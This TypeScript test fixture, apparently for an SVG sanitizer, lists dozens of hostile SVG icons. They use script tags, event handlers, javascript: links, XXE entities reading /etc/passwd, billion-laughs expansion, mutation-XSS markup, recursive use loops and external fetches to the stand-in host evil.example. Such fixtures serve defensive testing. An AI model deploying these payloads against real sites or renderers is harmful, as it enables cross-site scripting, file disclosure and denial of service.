/** Host that a hostile icon would send its requests to. */
export const EVIL_HOST = 'evil.example'

const EVIL = `https://${EVIL_HOST}`
const SHAPE = '<path d="M3 12h18"/>'
const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24" ${attributes}>${inside}${SHAPE}</svg>`

/**
 * Icons that try to run scripts or to fetch something, each with a shape that may stay. Their
 * script calls `alert`, or sets `window.attacked`.
 */
export const HOSTILE_SVGS: Readonly<Record<string, string>> = {
  'a script': svg('<script>window.attacked=1;alert(1)</script>'),
  'a script in capitals': svg('<SCRIPT>alert(1)</SCRIPT>'),
  'a script of its namespace': svg(
    '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>',
  ),
  'a script from elsewhere': svg(
    `<script href="${EVIL}/x.js"/><script xlink:href="${EVIL}/y.js"/>`,
  ),
  'a script in CDATA': svg('<script><![CDATA[alert(1)]]></script>'),
  'a script that CDATA hides': svg('<![CDATA[<script>alert(1)</script>]]>'),
  'a script behind a broken tag': svg('<scr<script>ipt>alert(1)</scr</script>ipt>'),
  'a script in a drawing in the drawing': svg(
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  ),
  onload: svg('', 'onload="alert(1)"'),
  'ONLOAD and a slash': `<svg/ONLOAD=alert(1) viewBox="0 0 9 9">${SHAPE}</svg>`,
  'handlers of every kind': svg(
    '<rect width="9" height="9" onclick="alert(1)" onmouseover=alert(1) onfocus=\'alert(1)\' tabindex="0" autofocus=""/>',
  ),
  'a handler whose name is encoded': svg('<rect width="9" height="9" on&#99;lick="alert(1)"/>'),
  'HTML inside': svg(
    `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"/><img src="${EVIL}/x" onerror="alert(1)"/></body></foreignObject>`,
  ),
  'a link with a script': svg(
    '<a href="javascript:alert(1)" xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>',
  ),
  'a link with a hidden script': svg(
    '<a xlink:href="java&#x0A;script:alert(1)"><rect width="9" height="9"/></a>',
  ),
  'a page in an address': svg(
    '<a href="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E"><rect/></a>',
  ),
  'another drawing': svg(`<use href="${EVIL}/x.svg#a"/><use xlink:href="data:image/svg+xml,x#a"/>`),
  'a picture from elsewhere': svg(`<image href="${EVIL}/x.png" xlink:href="${EVIL}/y.png"/>`),
  'a picture that is a drawing': svg(
    '<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"/>',
  ),
  'a picture in the picture': svg(
    `<feImage href="${EVIL}/x.png"/><filter id="f"><feImage href="${EVIL}/x"/></filter>`,
  ),
  'paint from elsewhere': svg(
    `<rect width="9" height="9" fill="url(${EVIL}/x#a)" stroke="URL( '${EVIL}/y' )" style="fill:url(${EVIL}/z)"/>`,
  ),
  'paint that is spelled with escapes': svg(
    `<rect width="9" height="9" fill="\\75 rl(${EVIL}/x)" stroke="u\\72l(//${EVIL_HOST}/y)"/>`,
  ),
  'paint by other functions': svg(
    `<rect width="9" height="9" fill="image-set('${EVIL}/x' 1x)" stroke="src('${EVIL}/y')" filter="url(${EVIL}/f)" mask="url(${EVIL}/m)" clip-path="url(${EVIL}/c)" marker-end="url(${EVIL}/e)" cursor="url(${EVIL}/u)"/>`,
  ),
  'styles from elsewhere': svg(
    `<style>@import "${EVIL}/x.css"; @font-face{font-family:x;src:url(${EVIL}/f)} *{background:url(${EVIL}/b)}</style><g class="x" style="background-image:url(${EVIL}/g)"/>`,
  ),
  'styles from elsewhere, by instruction': `<?xml version="1.0"?><?xml-stylesheet href="${EVIL}/x.css"?>${svg('')}`,
  'a link to styles': svg(
    `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${EVIL}/x.css"/>`,
  ),
  'entities that grow': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${svg('<title>&c;&c;&c;</title>')}`,
  'an entity from elsewhere': `<!DOCTYPE svg [<!ENTITY x SYSTEM "${EVIL}/x"><!ENTITY % y SYSTEM "file:///etc/passwd"> %y;]>${svg('<desc>&x;</desc>')}`,
  'a link that is animated in': svg(
    '<a><rect width="9" height="9"/><animate attributeName="href" values="javascript:alert(1)"/><set attributeName="xlink:href" to="javascript:alert(1)"/></a>',
  ),
  'a handler that is animated in': svg(
    '<rect width="9" height="9"><set attributeName="onmouseover" to="alert(1)"/><animate onbegin="alert(1)" attributeName="x" dur="1s"/></rect>',
  ),
  'a handler of an event': svg(
    '<handler xmlns="http://www.w3.org/2001/xml-events" type="text/javascript">alert(1)</handler>',
  ),
  'markup that changes when read as HTML': svg(
    '<title><style><a title="</style></title><img src=x onerror=alert(1)>"></style></title>',
  ),
  'markup that closes the drawing': svg('<desc></svg><img src=x onerror=alert(1)></desc>'),
  'markup in a comment': svg('<!--><img src=x onerror=alert(1)>-->'),
  'markup in a text': svg('<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>'),
  'markup in a value': svg(
    '<rect width="9" height="9" fill="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>',
  ),
  'HTML for a namespace': `<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9"><script>alert(1)</script>${SHAPE}</svg>`,
  'a size beyond all bounds': `<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="999999999px">${SHAPE}</svg>`,
  'a pit of groups': svg('<g>'.repeat(5000) + '</g>'.repeat(5000)),
  'a gradient from elsewhere': svg(
    `<linearGradient id="g" xlink:href="${EVIL}/x.svg#g"/><rect width="9" height="9" fill="url(#g)"/>`,
  ),
  'a script as a part': svg('<script id="s">alert(1)</script><use href="#s"/>'),
  'a script in a part': svg(
    '<symbol id="s" onload="alert(1)"><script>alert(1)</script><rect width="9" height="9"/></symbol><use href="#s" onclick="alert(1)"/>',
  ),
  'an id that closes its value': svg(
    `<clipPath id="x');src:url(${EVIL}/i" onload="alert(1)"><rect width="9" height="9"/></clipPath><rect clip-path="url(&quot;#x');src:url(${EVIL}/i&quot;)"/>`,
  ),
  'styles that spell an address with escapes': svg(
    `<style>.a{fill:u\\72l(${EVIL}/a)} .b{fill:image-set("${EVIL}/b" 1x)} *{behavior:url(${EVIL}/c)}</style><rect class="a"/><rect class="b"/>`,
  ),
  'styles for a state': svg(
    `<style>rect:hover{fill:url(${EVIL}/h)} @media screen{rect{mask:url(${EVIL}/m)}}</style><rect width="9" height="9"/>`,
  ),
  'a variable with an address': svg(
    `<g style="--a:url(${EVIL}/v)"><rect width="9" height="9" style="fill:var(--a)"/></g>`,
  ),
  'a script by the prefix of a part': svg(
    '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script><x:g xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:g>',
  ),
  'an entity that is a script': `<!DOCTYPE svg [<!ENTITY s "onload='alert(1)'"><!ENTITY t '" onload="alert(1)'>]>${svg('<rect width="&t;" &s; height="9"/>')}`,
  'styles that match all for long': svg(
    `<style>${'a b c d,'.repeat(2000)}x{fill:red}</style>${'<g/>'.repeat(2000)}`,
  ),
  'a base address': svg(`<base href="${EVIL}/"/><g xml:base="${EVIL}/"/>`),
  'sound and film': svg(
    `<audio src="${EVIL}/a"/><video src="${EVIL}/v"/><iframe src="${EVIL}/i"/><embed src="${EVIL}/e"/><object data="${EVIL}/o"/>`,
  ),
}

/** Icons that no browser finishes drawing. */
export const ENDLESS_SVGS: Readonly<Record<string, string>> = {
  'parts that repeat each other': svg(
    `<defs><path id="p0" d="M0 0h1"/>${Array.from({ length: 12 }, (_, at) => `<g id="p${at + 1}">${`<use href="#p${at}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#p12"/>`,
  ),
  'a part that repeats itself': svg('<g id="a"><use href="#a"/></g><use href="#a"/>'),
  'a mask that masks itself': svg(
    '<mask id="m" mask="url(#m)"><rect mask="url(#m)"/></mask><rect mask="url(#m)"/>',
  ),
}
